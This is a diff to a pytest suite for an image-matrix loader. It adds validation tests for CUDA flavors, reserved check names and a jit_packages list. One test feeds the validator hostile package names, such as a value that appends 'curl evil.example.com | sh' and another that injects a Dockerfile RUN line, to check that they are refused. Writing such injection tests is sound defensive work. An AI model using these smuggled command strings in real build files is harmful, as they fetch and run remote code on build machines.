@@ -6,6 +6,9 @@ from imagectl.errors import MatrixError
 from imagectl.matrix.load import load_matrix
 
 
+FLAVORS = 'flavors = ["runtime", "devel", "base"]'  # the fixture's [base] flavors line
+
+
 def copy_matrix(src, tmp_path):
     dest = tmp_path / "m"
     shutil.copytree(src, dest)
@@ -183,6 +186,26 @@ def test_a_literal_brace_pair_in_the_base_tag_is_fine_when_the_tag_stays_valid(t
         load_matrix([dest])
 
 
+def test_wheel_cuda_flavor_is_read(test_matrix_dir, tmp_path):
+    dest = copy_matrix(test_matrix_dir, tmp_path)
+    edit(dest, "cuda.toml", FLAVORS, f'{FLAVORS}\nwheel_cuda_flavor = "base"')
+    base = load_matrix([dest]).base
+    assert base.wheel_cuda_flavor == "base" and base.flavors == ("runtime", "devel", "base")
+    assert load_matrix([test_matrix_dir]).base.wheel_cuda_flavor is None
+
+
+@pytest.mark.parametrize("value, message", [
+    ('"slim"', r"wheel_cuda_flavor 'slim' must be one of flavors after the first \(devel, base\)"),
+    ('"runtime"', r"wheel_cuda_flavor 'runtime' must be one of flavors after the first"),  # the no-wheel default
+    ("1", r"wheel_cuda_flavor 1 must be one of flavors after the first"),
+])
+def test_wheel_cuda_flavor_must_be_a_flavor_other_than_the_first(test_matrix_dir, tmp_path, value, message):
+    dest = copy_matrix(test_matrix_dir, tmp_path)
+    path = edit(dest, "cuda.toml", FLAVORS, f"{FLAVORS}\nwheel_cuda_flavor = {value}")
+    with pytest.raises(MatrixError, match=rf"cuda.toml:{line_number(path, 'wheel_cuda_flavor')}: \[base\] {message}"):
+        load_matrix([dest])
+
+
 @pytest.mark.parametrize("pattern, message", [
     ("cu{major}{minor}{patch}", r"cuda_tag .* uses \{patch\}"),
     ("cu{major:>99999}", r"cuda_tag .* uses \{major:>99999\}"),
@@ -196,10 +219,11 @@ def test_cuda_tag_must_make_a_tag_profile_names_can_carry(test_matrix_dir, tmp_p
         load_matrix([dest])
 
 
-def test_check_main_is_reserved(test_matrix_dir, tmp_path):
+@pytest.mark.parametrize("name", ["main", "libraries", "torch_compile", "cuda_toolchain"])
+def test_the_shared_check_partials_are_reserved(test_matrix_dir, tmp_path, name):
     dest = copy_matrix(test_matrix_dir, tmp_path)
-    edit(dest, "torch.toml", 'check = "torch"', 'check = "main"')
-    with pytest.raises(MatrixError, match=r"torch.toml:9: framework check 'main' is reserved"):
+    edit(dest, "torch.toml", 'check = "torch"', f'check = "{name}"')
+    with pytest.raises(MatrixError, match=rf"torch.toml:9: framework check '{name}' is reserved"):
         load_matrix([dest])
 
 
@@ -236,9 +260,9 @@ def test_release_versions_that_make_immutable_tags_load(test_matrix_dir, tmp_pat
     ("torch.toml", 'name = "torch"', 'name = "tor.ch"', r"framework name: 'tor.ch' is not a lower-case name"),
     ("torch.toml", 'name = "torch"', 'name = "tor-ch"', r"framework name: 'tor-ch' is not a lower-case name"),
     ("torch.toml", 'name = "torch"', 'name = "1torch"', r"framework name: '1torch' is not"),
-    ("cuda.toml", 'flavors = ["runtime", "devel"]', 'flavors = ["runtime", "cudnn-devel"]',
+    ("cuda.toml", FLAVORS, 'flavors = ["runtime", "cudnn-devel"]',
      r"\[base\] flavor: 'cudnn-devel' is not a lower-case name of \[a-z0-9.\]"),
-    ("cuda.toml", 'flavors = ["runtime", "devel"]', 'flavors = ["runtime", "py3.11"]', r"\[base\] flavor: 'py3.11' is"),
+    ("cuda.toml", FLAVORS, 'flavors = ["runtime", "py3.11"]', r"\[base\] flavor: 'py3.11' is"),
     ("cuda.toml", '[os."ubuntu24.04"]', '[os."ubuntu_24.04"]', r"OS name: 'ubuntu_24.04' is not"),
 ])
 def test_names_that_would_be_listed_but_not_resolve_are_refused(test_matrix_dir, tmp_path, file, old, new, message):
@@ -250,7 +274,7 @@ def test_names_that_would_be_listed_but_not_resolve_are_refused(test_matrix_dir,
 
 def test_a_flavor_named_like_an_os_is_refused(test_matrix_dir, tmp_path):
     dest = copy_matrix(test_matrix_dir, tmp_path)
-    edit(dest, "cuda.toml", 'flavors = ["runtime", "devel"]', 'flavors = ["runtime", "ubuntu24.04"]')
+    edit(dest, "cuda.toml", FLAVORS, 'flavors = ["runtime", "ubuntu24.04"]')
     with pytest.raises(MatrixError, match="flavor 'ubuntu24.04' is also an OS name"):
         load_matrix([dest])
 
@@ -261,3 +285,43 @@ def test_every_listed_name_resolves(shipped_matrix, matrix):
     for m in (shipped_matrix, matrix):
         for profile in list_profiles(m):
             assert resolve_profile(profile.name, m) == profile
+
+
+JIT_LINE = 'jit_packages = ["gcc", "g++", "python{python}-dev"]'
+
+
+def test_jit_packages_load_as_patterns_and_default_to_none(matrix, shipped_matrix, test_matrix_dir, tmp_path):
+    assert matrix.frameworks["torch"].jit_packages == ("gcc", "g++", "python{python}-dev")
+    assert shipped_matrix.frameworks["torch"].jit_packages == ("gcc", "g++", "python{python}-dev")
+    assert shipped_matrix.frameworks["jax"].jit_packages == ()  # XLA needs no host compiler
+    dest = copy_matrix(test_matrix_dir, tmp_path)
+    edit(dest, "torch.toml", JIT_LINE + "\n", "")
+    assert load_matrix([dest]).frameworks["torch"].jit_packages == ()
+
+
+@pytest.mark.parametrize("value, message", [
+    ('"gcc"', "jit_packages must be a list of strings"),
+    ('["gcc", 3]', "jit_packages must be a list of strings"),
+    ('["gcc; curl evil.example.com | sh"]', "is not a Debian package name"),
+    ('["gcc\\nRUN curl evil"]', "is not a Debian package name"),
+    ('["g++=4:12.2.0-3"]', "is not a Debian package name"),
+    ('["--allow-unauthenticated"]', "is not a Debian package name"),
+    ('["G++"]', "is not a Debian package name"),
+    ('["libc{os}-dev"]', r"uses \{os\}; it may only use \{python\}"),
+    ('["python{python!r}-dev"]', r"uses \{python!r\}"),
+    ('["python{0}-dev"]', r"uses \{0\}"),
+    ('["python{python"]', "write a literal brace"),
+])
+def test_bad_jit_packages_are_refused_with_file_and_line(test_matrix_dir, tmp_path, value, message):
+    dest = copy_matrix(test_matrix_dir, tmp_path)
+    path = edit(dest, "torch.toml", JIT_LINE, f"jit_packages = {value}")
+    with pytest.raises(MatrixError, match=message) as caught:
+        load_matrix([dest])
+    assert str(caught.value).startswith(f"{path}:{line_number(path, 'jit_packages')}: ")
+
+
+def test_a_misspelt_jit_packages_key_names_the_nearest(test_matrix_dir, tmp_path):
+    dest = copy_matrix(test_matrix_dir, tmp_path)
+    edit(dest, "torch.toml", JIT_LINE, JIT_LINE.replace("jit_packages", "jit_package"))
+    with pytest.raises(MatrixError, match=r"unknown key 'jit_package' in \[framework\] \(did you mean 'jit_packages'"):
+        load_matrix([dest])
